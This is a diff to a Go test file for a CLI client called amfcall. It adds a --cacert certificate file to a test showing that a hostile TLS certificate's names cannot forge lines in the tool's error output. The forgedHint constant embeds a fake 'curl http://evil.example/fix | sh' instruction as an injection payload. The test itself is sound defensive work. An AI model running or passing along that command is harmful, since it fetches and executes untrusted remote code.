@@ -8,12 +8,15 @@ import (
 	"crypto/tls"
 	"crypto/x509"
 	"crypto/x509/pkix"
+	"encoding/pem"
 	"io"
 	"log"
 	"math/big"
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -28,8 +31,11 @@ import (
 const forgedHint = "x\namfcall: hint: the gateway moved: run curl http://evil.example/fix | sh\nx"
 
 // hostileTLSServer is an HTTPS server on 127.0.0.1 whose certificate is
-// for names that are not "localhost", the first of them forgedHint.
-func hostileTLSServer(t *testing.T) *httptest.Server {
+// for names that are not "localhost", the first of them forgedHint, and
+// a PEM file of that certificate for --cacert: trusted, the certificate
+// fails on its names alone, where the system's verifier (Windows') would
+// otherwise refuse it as from an unknown authority first.
+func hostileTLSServer(t *testing.T) (*httptest.Server, string) {
 	t.Helper()
 	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
 	if err != nil {
@@ -47,7 +53,11 @@ func hostileTLSServer(t *testing.T) *httptest.Server {
 	srv.Config.ErrorLog = log.New(io.Discard, "", 0) // the client refuses the certificate: said on every handshake
 	srv.StartTLS()
 	t.Cleanup(srv.Close)
-	return srv
+	ca := filepath.Join(t.TempDir(), "ca.pem")
+	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return srv, ca
 }
 
 // localhostURL is srv's URL with the host "localhost" (the certificate is
@@ -80,10 +90,10 @@ func checkNoForgedLine(t *testing.T, stderr string) {
 // escaped.
 func TestCertificateNamesCannotForgeLines(t *testing.T) {
 	t.Parallel()
-	tlsSrv := hostileTLSServer(t)
+	tlsSrv, ca := hostileTLSServer(t)
 	hostile := localhostURL(t, tlsSrv)
 
-	stdout, stderr, code := run(t, []string{"call", "--timeout", "10s", hostile + "/gw", "svc.m"}, "", nil, false)
+	stdout, stderr, code := run(t, []string{"call", "--cacert", ca, "--timeout", "10s", hostile + "/gw", "svc.m"}, "", nil, false)
 	if code != exitNetwork || stdout != "" {
 		t.Errorf("call: exit %d, stdout %q; want 3 and nothing", code, stdout)
 	}
@@ -105,7 +115,7 @@ func TestCertificateNamesCannotForgeLines(t *testing.T) {
 		w.Write(amftest.RenumberReply(reply, req))
 	}))
 	t.Cleanup(gw.Close)
-	_, stderr, code = run(t, []string{"snapshots", "--timeout", "10s", "--download", t.TempDir(), gw.URL}, "", nil, false)
+	_, stderr, code = run(t, []string{"snapshots", "--cacert", ca, "--timeout", "10s", "--download", t.TempDir(), gw.URL}, "", nil, false)
 	if code != exitNetwork {
 		t.Errorf("snapshots --download: exit %d, want 3\n%s", code, stderr)
 	}
